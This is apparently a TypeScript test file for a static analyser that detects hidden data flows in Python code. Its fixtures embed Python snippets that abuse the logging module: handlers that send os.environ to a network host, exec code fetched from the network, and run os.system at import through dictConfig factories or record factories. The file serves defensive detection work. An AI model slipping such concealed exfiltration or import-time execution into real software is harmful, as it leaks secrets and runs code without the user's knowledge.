import { expect, test } from 'vitest';
import { read, whenStarted } from './reading.js';

const HANDLER = (body: string): string => `import logging, os, urllib.request\nclass Mine(logging.Handler):\n    def emit(self, record):\n        ${body}\nlogging.getLogger().addHandler(Mine())\n`;
const sent = async (text: string) => (await read(text)).facts?.flows({ from: 'environment', to: 'network' }).map(({ when }) => when) ?? [];

test('what is logged is sent by a handler of the file', async () => {
  expect(await sent(`${HANDLER('urllib.request.urlopen(A, data=self.format(record).encode())')}logging.warning(str(dict(os.environ)))\n`)).toEqual(['import']);
});

test('what is logged is run by a handler of the file', async () => {
  const { facts } = await read(`${HANDLER('exec(record.getMessage())')}logging.info(urllib.request.urlopen(A).read())\n`);
  expect(facts?.flows({ from: 'network', to: 'exec' })).toHaveLength(1);
});

test('a handler that keeps its records gives nothing away', async () => {
  expect(await sent(`${HANDLER('self.kept = record')}logging.warning(str(dict(os.environ)))\nurllib.request.urlopen(A)\n`)).toEqual([]);
});

const CONFIGURED = (handler: string): string => `import logging.config, os\nlogging.config.dictConfig({"version": 1, "handlers": {"h": ${handler}}, "root": {"handlers": ["h"]}})\nlogging.info(dict(os.environ))\n`;

test('a dict that names a handler which sends is a line to the network', async () => {
  expect(await sent(CONFIGURED('{"class": "logging.handlers.HTTPHandler", "host": "garden.invalid", "url": "/a"}'))).toEqual(['import']);
});

test.each(['{"class": "logging.StreamHandler"}', '{"class": "logging.handlers.SysLogHandler", "address": "/dev/log"}'])('one that writes here is none: %s', async (handler) => {
  expect(await sent(CONFIGURED(handler))).toEqual([]);
});

test('what makes a handler is called with what stands beside it', async () => {
  expect((await read(CONFIGURED('{"()": "os.system", "command": "touch leaf"}'))).facts?.calls('process').map(({ when }) => when)).toEqual(['import']);
});

test('what makes records is called for each', async () => {
  expect(await whenStarted('import logging, os\ndef make(*a):\n    os.system("touch leaf")\nlogging.setLogRecordFactory(make)\n')).toBe('import');
});

test.each(['logging.root.handlers.append(Mine())', 'logging.getLogger().handlers.append(Mine())', 'logging.root.addHandler(Mine())'])('a handler is put among the others: %s', async (line) => {
  expect(await whenStarted(`import logging, os\nclass Mine(logging.Handler):\n    def emit(self, record):\n        os.system("touch leaf")\n${line}\n`)).toBe('import');
});
